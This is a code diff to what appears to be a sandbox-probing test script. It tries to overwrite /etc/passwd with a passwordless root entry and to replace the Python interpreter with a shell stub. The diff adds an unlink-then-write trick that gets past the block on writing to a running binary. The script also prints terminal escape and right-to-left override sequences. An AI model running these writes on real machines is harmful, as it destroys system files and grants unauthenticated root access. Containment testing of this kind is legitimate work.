@@ -22,6 +22,12 @@ def overwrite(path, content):
     return "overwritten"
 
 
+def replace(path, content):
+    """A running program's file cannot be opened for writing, but it can be removed."""
+    os.unlink(path)
+    return overwrite(path, content)
+
+
 def listing(path):
     return " ".join(sorted(os.listdir(path)))
 
@@ -36,6 +42,6 @@ attempt("homes", lambda: listing("/home"))
 attempt("home", lambda: listing(home))
 attempt("write to the script", lambda: overwrite(sys.argv[0], b"gone"))
 attempt("passwd", lambda: overwrite("/etc/passwd", b"root::0:0::/:/bin/sh\n"))
-attempt("python", lambda: overwrite("/usr/bin/python3.11", b"#!/bin/sh\necho taken\n"))
 attempt("link of python", lambda: read("/usr/bin/python3"))
+attempt("python", lambda: replace("/usr/bin/python3.11", b"#!/bin/sh\necho taken\n"))
 print("escape: \x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m \u202egnp.exe end")
